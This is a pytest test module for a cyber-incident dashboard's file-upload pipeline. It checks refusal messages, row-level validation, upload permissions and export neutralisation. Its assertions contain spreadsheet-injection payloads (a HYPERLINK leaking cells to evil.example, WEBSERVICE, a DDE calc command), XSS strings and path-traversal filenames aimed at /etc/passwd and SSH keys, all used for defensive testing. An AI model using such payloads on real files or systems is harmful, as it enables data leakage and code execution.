"""Hostile and broken uploads, each through the path the upload page uses: pipeline.prepare, then pipeline.commit.

Every file of tests/fixtures/ingest (written by make_corpus.py) has a case here with its exact outcome: refused with
a message a coordinator can act on, or checked with specific row-level issues and counts. A refused upload, and an
upload with errors that is not committed, leaves every table exactly as it was (checksums before and after). The
big cases (10 MB cell, thousands of columns, zip bomb, over-size file) are built at test time in tmp_path; the
files past the input limits (make_hostile.py) are uploaded in tests/test_ingest_hostile.py.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import Engine

from dashboard import read
from dashboard.core.access import Role, Viewer, local_admin
from dashboard.export import tables
from dashboard.export import tables as exports
from dashboard.ingest import pipeline, versions
from tests.factories import incident, store_incidents
from tests.fixtures.ingest import make_corpus
from tests.test_db import table_checksums as all_table_checksums

CORPUS = Path(make_corpus.__file__).resolve().parent
ADMIN = local_admin("Dialogue Secretariat")
EE = "eastern-europe"
MAX_BYTES = 5 * 1024 * 1024
FORMULA_START = ("=", "+", "-", "@")
KYIV = "Kyiv – Київ: énergie coupée"
ZURICH = "Cyberattaque contre l’opérateur – “Zürich” Straße"
DUSSELDORF = "Düsseldorf Straße: señal perdida"


@dataclass(frozen=True)
class Refused:
    """prepare() refuses the upload; the message contains all of these words (case-insensitive)."""

    words: tuple[str, ...]


@dataclass(frozen=True)
class Checked:
    """prepare() reads the file; these counts and exactly these issues (row, column, level, message fragment)."""

    total: int
    errors: int = 0
    warnings: int = 0
    issues: tuple[tuple[int, str, str, str], ...] = ()
    notes: tuple[str, ...] = ()
    encoding: str | None = None
    file_format: str = "CSV"


@dataclass(frozen=True)
class Case:
    """One corpus file, how it is uploaded, and what must happen."""

    file: str
    expect: Refused | Checked
    layer: str = "incidents"
    upload_name: str | None = None
    options: dict = field(default_factory=dict)
    check: Callable[[Engine, pipeline.Prepared], None] | None = None


# ---------------------------------------------------------------------------------------------- helpers


def table_checksums(engine: Engine) -> dict[str, str]:
    """A checksum of every table but the audit log: a refused upload is audited (pipeline.prepare), nothing else."""
    sums = all_table_checksums(engine)
    sums.pop("audit_events", None)
    return sums


def stored_incidents(engine: Engine) -> pd.DataFrame:
    """Every incident the administrator sees, with targets and sectors joined as text."""
    return read.incident_rows(engine, ADMIN, read.IncidentFilter(tracks=frozenset({EE})), limit=None)


def by_source(engine: Engine) -> dict[str, dict]:
    """Stored incidents keyed by their source id."""
    return {r["source_id"]: r for r in stored_incidents(engine).to_dict("records")}


def exported_cells(frame: pd.DataFrame) -> tuple[list[str], list[openpyxl.cell.Cell]]:
    """The text cells of the CSV export and the cells of the XLSX export of a frame."""
    csv_back = pd.read_csv(io.BytesIO(exports.to_csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
    csv_cells = [v for v in csv_back.fillna("").to_numpy().ravel().tolist() if v]
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(frame, sheet="incidents", tlp="amber", title="t")))
    xlsx_cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    return csv_cells, xlsx_cells


def assert_no_live_formula(frame: pd.DataFrame) -> None:
    """No exported cell would run as a formula in a spreadsheet program."""
    csv_cells, xlsx_cells = exported_cells(frame)
    assert not [v for v in csv_cells if v.startswith(FORMULA_START)]
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    assert not [c.value for c in xlsx_cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]


def title_is(expected: str) -> Callable[[Engine, pipeline.Prepared], None]:
    """Check that the first row's title was decoded and stored exactly."""

    def check(engine: Engine, prepared: pipeline.Prepared) -> None:
        assert prepared.checked.rows["title"].iloc[0] == expected
        assert by_source(engine)["INC-1"]["title"] == expected

    return check


def check_valid_rows(engine: Engine, prepared: pipeline.Prepared) -> None:
    """The three rows of valid.csv are stored with their countries, sectors and markings."""
    rows = by_source(engine)
    assert {k: v for k, v in rows.items() if k.startswith("INC-")}.keys() == {"INC-1", "INC-2", "INC-3"}
    assert rows["INC-1"]["targets"] == "UKR" and rows["INC-1"]["initiators"] == "RUS"
    assert rows["INC-2"]["targets"] == "EST; POL" and rows["INC-2"]["sectors"] == "government; media"
    assert rows["INC-2"]["tlp"] == "clear" and rows["INC-1"]["tlp"] == "green"
    assert pd.isna(rows["INC-3"]["severity"]) and rows["INC-3"]["type"] == "espionage"


def check_injection(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Payloads are stored as text (leading blanks trimmed) and neutralised in both downloads."""
    rows = by_source(engine)
    assert rows["INC-1"]["title"] == '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert rows["INC-1"]["initiator_name"] == "+SUM(1,2)"
    assert rows["INC-2"]["title"] == "-2+3+cmd|' /C calc'!A0"
    assert rows["INC-2"]["attribution_basis"] == "@SUM(A1:A9)"
    assert rows["INC-3"]["title"] == "=1+1 tab first"
    assert rows["INC-3"]["description"] == "=1+1" and rows["INC-3"]["initiator_name"] == "=1+1 space first"
    assert "=SOURCE-4" in rows
    frame = stored_incidents(engine)
    assert_no_live_formula(frame)
    csv_cells, xlsx_cells = exported_cells(frame)
    for payload in (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "=SOURCE-4",
        '=WEBSERVICE("http://evil.example")',
    ):
        assert "'" + payload in csv_cells
        assert "'" + payload in [c.value for c in xlsx_cells]


def check_markup(engine: Engine, prepared: pipeline.Prepared) -> None:
    """HTML, JavaScript and Markdown are stored verbatim as text, not escaped or interpreted."""
    rows = by_source(engine)
    assert rows["INC-1"]["title"] == "<script>alert('xss')</script>"
    assert rows["INC-1"]["description"] == "<img src=x onerror=alert(1)>"
    assert rows["INC-2"]["title"] == "**Bold** [click](javascript:alert(1))"
    assert rows["INC-2"]["description"] == "# Heading\n\n> quote\n\n| a | b |"
    assert rows["INC-3"]["title"] == "<b>bold</b> &amp; <i>it</i>"
    assert rows["INC-3"]["initiator_name"] == "<iframe src=//evil.example>"
    csv_cells, _ = exported_cells(stored_incidents(engine))
    assert "<script>alert('xss')</script>" in csv_cells


def check_formulas_not_cached(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Formulas without a stored result are read as empty cells: never run, never stored as formula text."""
    row = by_source(engine)["INC-1"]
    assert row["description"] == "" and row["initiator_name"] == "" and pd.isna(row["severity"])
    frame = stored_incidents(engine)
    assert not frame.astype(str).apply(lambda col: col.str.contains("HYPERLINK|1\\+1|1\\+2")).any().any()
    assert_no_live_formula(frame)


def check_formulas_cached(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Formulas are read as the values the spreadsheet program last computed."""
    rows = by_source(engine)
    assert rows["INC-1"]["severity"] == 3 and rows["INC-1"]["description"] == "2"
    assert rows["INC-1"]["initiator_name"] == "x" and rows["INC-2"]["title"] == "click me"
    frame = stored_incidents(engine)
    assert not frame.astype(str).apply(lambda col: col.str.contains("HYPERLINK")).any().any()
    assert_no_live_formula(frame)


def check_multiline(engine: Engine, prepared: pipeline.Prepared) -> None:
    """A quoted cell keeps its line breaks; the row numbers count records, as a spreadsheet shows them."""
    assert by_source(engine)["INC-1"]["description"] == "First line\nsecond line, with a comma\n\nand a blank line"


def check_dates(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Only the plausible dates are stored; an end before the start is left out."""
    rows = by_source(engine)
    assert set(rows) - {"SEED-1"} == {"INC-5", "INC-8"}
    assert rows["INC-5"]["start_date"] == dt.date(2020, 5, 1) and pd.isna(rows["INC-5"]["end_date"])
    assert rows["INC-8"]["start_date"] == dt.date(2024, 3, 1)


def check_severity(engine: Engine, prepared: pipeline.Prepared) -> None:
    """In-range severities are stored as numbers; a missing one stays empty."""
    rows = by_source(engine)
    assert rows["INC-5"]["severity"] == 5 and rows["INC-6"]["severity"] == 0 and pd.isna(rows["INC-7"]["severity"])


def check_tlp(engine: Engine, prepared: pipeline.Prepared) -> None:
    """TLP:WHITE is the old name of TLP:CLEAR; an empty marking takes the upload's default (amber)."""
    rows = by_source(engine)
    assert {k: rows[k]["tlp"] for k in ("INC-3", "INC-4", "INC-5")} == {
        "INC-3": "clear",
        "INC-4": "amber+strict",
        "INC-5": "amber",
    }


def check_countries(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Known countries are stored, unknown names and regions are not."""
    rows = by_source(engine)
    assert {k: rows[k]["targets"] for k in ("INC-2", "INC-6", "INC-7")} == {
        "INC-2": "UKR",
        "INC-6": "UKR",
        "INC-7": "MDA",
    }
    assert rows["INC-7"]["initiators"] == ""
    assert {k: (rows[k]["targets"], rows[k]["initiators"]) for k in ("INC-3", "INC-4")} == {
        "INC-3": ("", "RUS"),
        "INC-4": ("", "RUS"),
    }


def check_duplicates(engine: Engine, prepared: pipeline.Prepared) -> None:
    """The first of each duplicate is kept."""
    rows = by_source(engine)
    assert rows["INC-1"]["title"] == "Power grid operator disrupted #1"
    assert set(rows) - {"SEED-1"} == {"INC-1", "", "INC-5"}


def check_vocabulary(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Non-web links are left out, unknown confidence becomes 'unknown'."""
    rows = by_source(engine)
    assert set(rows) - {"SEED-1"} == {"INC-4", "INC-5"}
    assert rows["INC-4"]["confidence"] == "unknown"
    assert rows["INC-5"]["source_urls"] == "https://example.org/ok"


def check_other_layers_exports(engine: Engine, prepared: pipeline.Prepared) -> None:
    """Payloads in partnership and norm uploads are stored as text and neutralised in those pages' downloads."""
    if prepared.layer == "partnerships":
        frame = read.partnership_rows(engine, ADMIN)
        row = frame.iloc[0]
        assert row["name"] == '=HYPERLINK("http://evil.example","Hotline")' and row["funder"] == "@SUM(A1)"
    else:
        frame = read.norm_status_as_of(engine, ADMIN)
        assert frame["round_label"].tolist() == ["=1+1"]
    assert_no_live_formula(frame)


def check_file_name(expected: str) -> Callable[[Engine, pipeline.Prepared], None]:
    """The dataset version records only the plain file name."""

    def check(engine: Engine, prepared: pipeline.Prepared) -> None:
        assert prepared.file_name == expected
        listed = versions.list_versions(engine, ADMIN, "incidents", EE)
        assert listed["file_name"].iloc[0] == expected
        assert "/" not in expected and "\\" not in expected and ".." not in expected

    return check


VALID = Checked(total=3)
NOT_RECOGNISED = ("not recognised as our incidents template",)

CASES: list = [
    Case("valid.csv", VALID, check=check_valid_rows),
    Case("empty.csv", Refused(("the file is empty",))),
    Case("whitespace_only.csv", Refused(("the file is empty",))),
    Case("header_only.csv", Refused(("column names but no rows",))),
    Case("blank_lines_after_header.csv", Refused(("column names but no rows",))),
    Case("binary_garbage.csv", Refused(("does not look like a text (CSV) file", "binary data"))),
    Case("png_renamed.csv", Refused(("PNG image", "not a data file", "Upload CSV, XLSX, Parquet or JSON"))),
    Case("pdf_renamed.csv", Refused(("PDF document", "not a data file"))),
    Case("old_excel.xls", Refused(("old-style Office file", ".xlsx or CSV"))),
    Case("gzipped.csv", Refused(("gzip archive", "not a data file"))),
    Case("utf8_bom.csv", Checked(total=3, encoding="UTF-8 (with BOM)"), check=title_is(KYIV)),
    Case("utf16_le_bom.csv", Checked(total=3, encoding="UTF-16"), check=title_is(KYIV)),
    Case("utf16_be_bom.csv", Checked(total=3, encoding="UTF-16"), check=title_is(KYIV)),
    Case("utf16_le_no_bom.csv", Checked(total=3, encoding="UTF-16 (no BOM)"), check=title_is(KYIV)),
    Case("utf16_be_no_bom.csv", Checked(total=3, encoding="UTF-16 (no BOM)"), check=title_is(KYIV)),
    Case(
        "cp1252_accents.csv",
        Checked(total=3, encoding="Windows-1252", notes=("not UTF-8", "Windows-1252")),
        check=title_is(ZURICH),
    ),
    Case(
        "latin1.csv",
        Checked(total=3, encoding="Windows-1252", notes=("not UTF-8", "Windows-1252")),
        check=title_is(DUSSELDORF),
    ),
    Case("semicolon.csv", Checked(total=3, notes=("separated by semicolons",)), check=check_valid_rows),
    Case("tab.tsv", Checked(total=3, notes=("separated by tabs",)), check=check_valid_rows),
    Case("crlf.csv", VALID, check=check_valid_rows),
    Case(
        "quoted_newlines.csv",
        Checked(total=3, errors=1, issues=((3, "start_date", "error", "'2024-13-01' is not a date (no such day)"),)),
        check=check_multiline,
    ),
    Case("unbalanced_quotes.csv", Refused(("could not be read as CSV", "unbalanced quotes"))),
    Case("extra_cells_later_row.csv", Refused(("Row 3 has more cells than the header (19 cells for 18 columns)",))),
    Case(
        "missing_required_column.csv",
        Refused((*NOT_RECOGNISED, "Missing for the template: target_countries")),
    ),
    Case("csv_injection.csv", Checked(total=4), check=check_injection),
    Case("html_markdown.csv", Checked(total=3), check=check_markup),
    Case(
        "dates_out_of_range.csv",
        Checked(
            total=8,
            errors=6,
            warnings=1,
            issues=(
                (2, "start_date", "error", "start_date '1800-01-01' is before 1980: check the year"),
                (3, "start_date", "error", "start_date '2200-01-01' is in the future: check the year"),
                (4, "start_date", "error", "start_date '2021-02-31' is not a date (no such day)"),
                (5, "start_date", "error", "start_date '31/02/2021' is not a date in YYYY-MM-DD form"),
                (6, "end_date", "warning", "end_date is before start_date; end date left out"),
                (7, "start_date", "error", "start_date '2023' is only a year; a full date is needed"),
                (8, "start_date", "error", "start_date is required and is empty"),
            ),
        ),
        check=check_dates,
    ),
    Case(
        "severity_out_of_range.csv",
        Checked(
            total=7,
            errors=4,
            issues=(
                (2, "severity", "error", "severity -1 is outside the scale 0 (baseline) to 5 (emergency)"),
                (3, "severity", "error", "severity 7 is outside the scale 0 (baseline) to 5 (emergency)"),
                (4, "severity", "error", "severity 2.5 is outside the scale"),
                (5, "severity", "error", "severity 'high' is not a number from 0 to 5"),
            ),
        ),
        check=check_severity,
    ),
    Case(
        "unknown_tlp.csv",
        Checked(
            total=5,
            errors=2,
            issues=(
                (2, "tlp", "error", "TLP 'purple' is not one of TLP:CLEAR, TLP:GREEN, TLP:AMBER"),
                (3, "tlp", "error", "TLP 'TLP:BLACK' is not one of"),
            ),
        ),
        check=check_tlp,
    ),
    Case(
        "unknown_countries.csv",
        Checked(
            total=7,
            errors=2,
            warnings=4,
            issues=(
                (2, "target_countries", "error", "unknown country 'Atlantis': use an ISO3 code or a country name"),
                (3, "target_countries", "warning", "unknown country 'Narnia'; the other countries are stored"),
                # No target country, but an initiator: stored with its target not identified.
                (4, "target_countries", "warning", "EU (region): a region or organisation, not a country"),
                (4, "target_countries", "target not identified", "names only regions (EU (region)), no country"),
                (5, "target_countries", "target not identified", "no target country: stored as 'target not"),
                (6, "target_countries", "error", "unknown country 'XXX'"),
                (7, "target_countries", "warning", "Global (region): a region or organisation, not a country"),
                (8, "initiator_countries", "warning", "unknown country 'Mordor'"),
            ),
        ),
        check=check_countries,
    ),
    Case(
        "duplicate_ids.csv",
        Checked(
            total=5,
            errors=2,
            issues=(
                (3, "", "error", "duplicate of row 2 (same source id"),
                (5, "", "error", "duplicate of row 4 (same source id, or same title, date and first country)"),
            ),
        ),
        check=check_duplicates,
    ),
    Case(
        "unknown_vocabulary.csv",
        Checked(
            total=5,
            errors=3,
            warnings=2,
            issues=(
                (2, "incident_type", "error", "'cyber-war' is not a known incident_type: use one of defacement"),
                (3, "sectors", "error", "'astrology' is not a sector id from data/reference/sectors.csv"),
                (4, "norms", "error", "unknown norm item ids (use ids such as un-norms:f)"),
                (5, "confidence", "warning", "confidence must be low, medium, high or unknown; stored as unknown"),
                (6, "source_urls", "warning", "not a web address (http:// or https://); left out"),
            ),
        ),
        check=check_vocabulary,
    ),
    Case("norms_as_incidents.csv", Refused(("columns of our norms template", "Choose the norms layer"))),
    Case(
        "partnerships_as_incidents.csv",
        Refused(("columns of our partnerships template", "Choose the partnerships layer")),
    ),
    Case(
        "eurepoc_as_partnerships.csv",
        Refused(("EuRepoC", "holds incidents, not partnerships")),
        layer="partnerships",
    ),
    Case(
        "norms_bad_values.csv",
        Checked(
            total=6,
            errors=5,
            issues=(
                (3, "iso3", "error", "unknown country 'Atlantis': use an ISO3 code"),
                (4, "item_id", "error", "unknown framework item"),
                (5, "assessed_on", "error", "assessed_on '2200-01-01' is in the future"),
                (6, "status", "error", "'done-ish' is not a known status"),
                (7, "tlp", "error", "TLP 'x' is not one of"),
            ),
        ),
        layer="norms",
    ),
    Case(
        "partnerships_bad_values.csv",
        Checked(
            total=5,
            errors=4,
            issues=(
                (3, "countries", "error", "a hotline links exactly two countries"),
                (4, "funding_usd", "error", "funding_usd must be a positive number of US dollars"),
                (5, "end_date", "error", "end_date is before start_date"),
                (6, "kind", "error", "'alliance' is not a known kind"),
            ),
        ),
        layer="partnerships",
    ),
    Case("partnerships_injection.csv", Checked(total=1), layer="partnerships", check=check_other_layers_exports),
    Case("norms_injection.csv", Checked(total=1), layer="norms", check=check_other_layers_exports),
    Case("two_sheets.xlsx", Refused((*NOT_RECOGNISED, "Missing for the template: incident_type"))),
    Case(
        "two_sheets.xlsx",
        Checked(total=3, file_format="XLSX", notes=("formulas are never run", "Read sheet 'Incidents' of 2")),
        options={"sheet": "Incidents"},
        check=check_valid_rows,
    ),
    Case("two_sheets.xlsx", Refused(("no sheet called 'Data'", "Sheets: Notes, Incidents")), options={"sheet": "Data"}),
    Case(
        "formulas_no_cache.xlsx",
        Checked(
            total=2,
            errors=1,
            file_format="XLSX",
            notes=("formulas are never run",),
            issues=((3, "title", "error", "title is required and is empty"),),
        ),
        check=check_formulas_not_cached,
    ),
    Case(
        "formulas_cached.xlsx",
        Checked(total=2, file_format="XLSX", notes=("last computed values",)),
        check=check_formulas_cached,
    ),
    Case("macro.xlsm", Refused(("contains macros", "never opened", "plain .xlsx or as CSV"))),
    Case("macro_renamed.xlsx", Refused(("contains macros",))),
    Case("zip_not_xlsx.zip", Refused(("ZIP archive, not an Excel workbook", "Upload the CSV or XLSX inside it"))),
    Case("truncated.xlsx", Refused(("starts like a ZIP/XLSX file but is damaged",))),
    Case("records.json", Checked(total=3, file_format="JSON"), check=check_valid_rows),
    Case("records_in_object.json", Checked(total=3, file_format="JSON"), check=check_valid_rows),
    Case("json_not_a_list.json", Refused(("JSON file must hold a list of records",))),
    Case("json_string.json", Refused(("column names but no rows",))),
    Case("json_invalid.json", Refused(("not valid JSON", "line 1"))),
    Case("incidents.parquet", Checked(total=3, file_format="Parquet"), check=check_valid_rows),
    Case("corrupt.parquet", Refused(("Parquet file could not be read",))),
    Case("valid.csv", VALID, upload_name="../../etc/passwd.csv", check=check_file_name("passwd.csv")),
    Case("valid.csv", VALID, upload_name="C:\\x\\..\\evil.csv", check=check_file_name("evil.csv")),
    Case("valid.csv", VALID, upload_name="/var/www/../../root/.ssh/id_rsa.csv", check=check_file_name("id_rsa.csv")),
]

KNOWN_BUGS = [
    pytest.param(
        Case(
            "duplicate_columns.csv",
            Refused(("Column names appear twice", "target_countries")),
        ),
        id="duplicate_columns.csv",
    ),
    pytest.param(
        Case("extra_cells_first_row.csv", Refused(("more cells than the header",))),
        id="extra_cells_first_row.csv",
    ),
    pytest.param(
        Case("trailing_delimiter.csv", VALID, check=check_valid_rows),
        id="trailing_delimiter.csv",
    ),
    pytest.param(
        Case("cr_line_endings.csv", VALID, check=check_valid_rows),
        id="cr_line_endings.csv",
    ),
    pytest.param(
        Case("json_with_bom.json", Checked(total=3, file_format="JSON"), check=check_valid_rows),
        id="json_with_bom.json",
    ),
]


def _case_id(case: Case) -> str:
    extra = case.upload_name or "/".join(f"{k}={v}" for k, v in case.options.items())
    return f"{case.file}[{extra}]" if extra else case.file


def _seed(engine: Engine) -> None:
    """Some data already stored, so that 'changes nothing' is meaningful."""
    store_incidents(engine, EE, [incident("SEED-1", tlp="amber")])


def _prepare(engine: Engine, case: Case, data: bytes, viewer: Viewer = ADMIN, **extra) -> pipeline.Prepared:
    return pipeline.prepare(
        engine,
        viewer,
        layer=case.layer,
        track=EE,
        file_name=case.upload_name or case.file,
        data=data,
        max_bytes=extra.pop("max_bytes", MAX_BYTES),
        **case.options,
        **extra,
    )


def assert_refused(engine: Engine, case: Case, data: bytes, words: tuple[str, ...], **extra) -> str:
    """prepare() refuses with all the words in its one-line message and changes nothing."""
    before = table_checksums(engine)
    with pytest.raises(pipeline.UploadRefused) as refused:
        _prepare(engine, case, data, **extra)
    message = str(refused.value)
    for word in words:
        assert word.lower() in message.lower(), f"{word!r} not in {message!r}"
    assert "\n" not in message and "Traceback" not in message
    assert table_checksums(engine) == before, "a refused upload changed the database"
    return message


def run_case(engine: Engine, case: Case) -> None:
    """Upload a corpus file as the page does and check its exact outcome."""
    _seed(engine)
    data = (CORPUS / case.file).read_bytes()
    if isinstance(case.expect, Refused):
        assert_refused(engine, case, data, case.expect.words)
        return
    expect = case.expect
    before = table_checksums(engine)
    prepared = _prepare(engine, case, data)
    assert table_checksums(engine) == before, "prepare() must not write"

    assert prepared.table.file_format == expect.file_format
    if expect.encoding is not None:
        assert prepared.table.encoding == expect.encoding
    notes = " ".join(prepared.table.notes)
    for note in expect.notes:
        assert note in notes, f"{note!r} not in {prepared.table.notes}"
    found = [(i.row, i.column, i.level) for i in prepared.issues]
    assert found == [(r, c, lv) for r, c, lv, _ in expect.issues], prepared.report_frame().to_string()
    for issue, (_r, _c, _lv, fragment) in zip(prepared.issues, expect.issues):
        assert fragment in issue.message, f"{fragment!r} not in {issue.message!r}"
    counts = prepared.counts
    assert (counts["total"], counts["errors"], counts["warnings"]) == (expect.total, expect.errors, expect.warnings)
    valid = expect.total - expect.errors
    assert counts["valid"] == valid and counts["new"] == valid
    report = pd.read_csv(io.BytesIO(tables.report_csv(prepared)), encoding="utf-8-sig", dtype=str)
    assert len(report) == len(expect.issues)

    if expect.errors:
        with pytest.raises(pipeline.UploadRefused, match=f"{expect.errors} of {expect.total} rows have errors"):
            pipeline.commit(engine, prepared, ADMIN)
        assert table_checksums(engine) == before, "a refused commit changed the database"
    done = pipeline.commit(engine, prepared, ADMIN, skip_invalid=bool(expect.errors))
    assert done.stored == valid
    listed = versions.list_versions(engine, ADMIN, case.layer, EE)
    newest = listed.iloc[0]
    assert newest["id"] == done.version_id
    assert (newest["rows_total"], newest["rows_stored"], newest["rows_skipped"]) == (
        expect.total,
        valid,
        expect.errors,
    )
    if case.check:
        case.check(engine, prepared)


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_corpus_file(engine: Engine, case: Case) -> None:
    run_case(engine, case)


@pytest.mark.parametrize("case", KNOWN_BUGS)
def test_corpus_file_known_bug(engine: Engine, case: Case) -> None:
    run_case(engine, case)


@pytest.mark.parametrize("name", ["utf16_truncated.csv", "utf8_bom_then_cp1252.csv"])
def test_broken_encoding_behind_a_byte_order_mark_gets_a_message(engine: Engine, name: str) -> None:
    _seed(engine)
    before = table_checksums(engine)
    try:
        prepared = _prepare(engine, Case(name, VALID), (CORPUS / name).read_bytes())
    except pipeline.UploadRefused as refused:
        assert "UTF" in str(refused)
    else:
        assert prepared.table.notes, "a guessed encoding must be reported in a note"
    assert table_checksums(engine) == before


# ---------------------------------------------------------------------------------------------- built at test time


def _write(tmp_path: Path, name: str, data: bytes) -> bytes:
    """Write a generated file and read it back, as an upload would arrive."""
    path = tmp_path / name
    path.write_bytes(data)
    return path.read_bytes()


def test_thousands_of_columns_are_refused(engine: Engine, tmp_path: Path) -> None:
    data = _write(tmp_path, "wide.csv", make_corpus.many_columns(5000))
    assert_refused(engine, Case("wide.csv", VALID), data, ("5,000 columns", "at most 300", "delimiter wrong"))


def test_a_ten_megabyte_cell_is_refused_naming_its_row(engine: Engine, tmp_path: Path) -> None:
    # A cell past the cell limit (1,000,000 characters, dashboard/ingest/limits.py) is refused before the table is
    # built; a long cell within it is a row error (test_a_long_description_is_a_row_error).
    data = _write(tmp_path, "huge_cell.csv", make_corpus.huge_cell(10))
    assert len(data) > 10_000_000
    assert_refused(
        engine,
        Case("huge_cell.csv", VALID),
        data,
        ("Row 2 holds a cell of more than 1,000,000 characters", "Is a quote missing"),
        max_bytes=50 * 1024 * 1024,
    )


def test_a_long_description_is_a_row_error(engine: Engine, tmp_path: Path) -> None:
    data = _write(tmp_path, "long.csv", make_corpus.long_description(100_000))
    _seed(engine)
    prepared = _prepare(engine, Case("long.csv", VALID), data)
    assert [(i.row, i.column, i.level) for i in prepared.issues] == [(2, "description", "error")]
    assert "description is 100,000 characters long; at most 20,000 are allowed" in prepared.issues[0].message
    assert len(prepared.issues[0].value) == 200  # the report shows a short excerpt, not the whole cell
    assert prepared.counts["valid"] == 1


def test_a_zip_bomb_is_not_opened(engine: Engine, tmp_path: Path) -> None:
    data = _write(tmp_path, "bomb.xlsx", make_corpus.zip_bomb(50))
    assert len(data) < 200_000
    assert_refused(engine, Case("bomb.xlsx", VALID), data, ("implausible size", "zip bomb", "not opened"))


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(engine: Engine, tmp_path: Path) -> None:
    data = _write(tmp_path, "big.csv", make_corpus.oversize(1_300_000))
    message = assert_refused(
        engine,
        Case("big.csv", VALID),
        data,
        ("uploads are limited to 1 MB", "DASHBOARD_MAX_UPLOAD_MB"),
        max_bytes=1024 * 1024,
    )
    assert "The file is 1.3 MB" in message
    # the same file is accepted under a larger limit: it was refused for its size only
    assert _prepare(engine, Case("big.csv", VALID), data, max_bytes=2 * 1024 * 1024).counts["errors"] == 0


def test_the_size_message_states_the_configured_limit(engine: Engine) -> None:
    data = b"x" * (50 * 1024 * 1024 + 1)
    assert_refused(engine, Case("big.csv", VALID), data, ("limited to 50 MB",), max_bytes=50 * 1024 * 1024)


# ---------------------------------------------------------------------------------------------- who may upload


@pytest.mark.parametrize(
    ("viewer", "words"),
    [
        (
            Viewer(
                name="ip-coordinator",
                role=Role.COORDINATOR,
                tracks=frozenset({"indo-pacific"}),
                tlp_ceiling="amber",
                organisation="Indo-Pacific Desk",
            ),
            ("only to your own tracks", "eastern-europe is not one of them"),
        ),
        (
            Viewer(
                name="official",
                role=Role.OFFICIAL,
                tracks=frozenset({EE}),
                tlp_ceiling="amber",
                organisation="Ministry",
            ),
            ("Only coordinators and administrators can upload",),
        ),
        (
            Viewer(
                name="partner",
                role=Role.PARTNER,
                tracks=frozenset({EE}),
                tlp_ceiling="green",
                organisation="CERT",
            ),
            ("Only coordinators and administrators can upload",),
        ),
    ],
    ids=["coordinator-of-another-track", "official", "partner"],
)
def test_only_coordinators_of_the_track_may_upload(engine: Engine, viewer: Viewer, words: tuple[str, ...]) -> None:
    _seed(engine)
    data = (CORPUS / "valid.csv").read_bytes()
    before = table_checksums(engine)
    with pytest.raises(pipeline.UploadRefused) as refused:
        _prepare(engine, Case("valid.csv", VALID), data, viewer=viewer)
    for word in words:
        assert word in str(refused.value)
    assert table_checksums(engine) == before


def test_a_coordinator_of_the_track_may_upload(engine: Engine) -> None:
    coordinator = Viewer(
        name="ee-coordinator",
        role=Role.COORDINATOR,
        tracks=frozenset({EE}),
        tlp_ceiling="amber",
        organisation="Eastern Europe Desk",
    )
    prepared = _prepare(engine, Case("valid.csv", VALID), (CORPUS / "valid.csv").read_bytes(), viewer=coordinator)
    done = pipeline.commit(engine, prepared, coordinator)
    assert done.stored == 3
    assert versions.list_versions(engine, coordinator, "incidents", EE)["uploaded_by"].iloc[0] == "ee-coordinator"


# ---------------------------------------------------------------------------------------------- reports and exports


def test_the_validation_report_neutralises_payloads_in_bad_cells(engine: Engine) -> None:
    rows = [
        make_corpus.incident(1, severity="=1+2", tlp="@evil"),
        make_corpus.incident(2, start_date="-2021-01-01", incident_type="+cmd"),
    ]
    data = make_corpus.csv_text(rows).encode()
    prepared = _prepare(engine, Case("bad.csv", VALID), data)
    assert prepared.counts["errors"] == 2
    report = pd.read_csv(io.BytesIO(tables.report_csv(prepared)), encoding="utf-8-sig", dtype=str)
    assert set(report["value"]) >= {"'=1+2", "'@evil", "'-2021-01-01", "'+cmd"}
    assert not [v for v in report.fillna("").to_numpy().ravel() if str(v).startswith(FORMULA_START)]


def test_a_stored_upload_can_be_rolled_back_to_the_state_before(engine: Engine) -> None:
    _seed(engine)
    before = stored_incidents(engine)
    first = versions.list_versions(engine, ADMIN, "incidents", EE)["id"].iloc[0]
    prepared = _prepare(engine, Case("html_markdown.csv", VALID), (CORPUS / "html_markdown.csv").read_bytes())
    pipeline.commit(engine, prepared, ADMIN)
    assert len(stored_incidents(engine)) == len(before) + 3
    versions.rollback(engine, int(first), ADMIN)
    pd.testing.assert_frame_equal(stored_incidents(engine), before)


# ---------------------------------------------------------------------------------------------- the corpus itself


def _same_content(name: str, committed: bytes, built: bytes) -> bool:
    """Byte for byte; files written by openpyxl or pyarrow by their content (their bytes carry library versions)."""
    if committed == built:
        return True
    if name.endswith(".parquet"):
        return pd.read_parquet(io.BytesIO(committed)).equals(pd.read_parquet(io.BytesIO(built)))
    if name.endswith((".xlsx", ".xlsm")):
        try:
            old, new = zipfile.ZipFile(io.BytesIO(committed)), zipfile.ZipFile(io.BytesIO(built))
        except zipfile.BadZipFile:  # the truncated workbook: half of a workbook either way
            return committed[:2] == built[:2] == b"PK" and abs(len(committed) - len(built)) < 512
        sheets = [n for n in new.namelist() if n.startswith("xl/worksheets/")]
        return old.namelist() == new.namelist() and all(old.read(n) == new.read(n) for n in sheets)
    return False


def test_the_corpus_is_generated_reproducibly_and_stays_small(tmp_path: Path) -> None:
    built = make_corpus.build()
    assert built == make_corpus.build(), "make_corpus.py must be deterministic"
    make_corpus.write(tmp_path)
    committed = {
        p.name: p.read_bytes()
        for p in CORPUS.iterdir()
        if p.is_file() and p.suffix != ".py" and not p.name.startswith(".")
    }
    assert set(committed) == set(built), "run tests/fixtures/ingest/make_corpus.py and commit the result"
    for name, data in built.items():
        assert (tmp_path / name).read_bytes() == data
        assert _same_content(name, committed[name], data), f"{name} differs from what make_corpus.py writes"
    assert len(built) >= 40
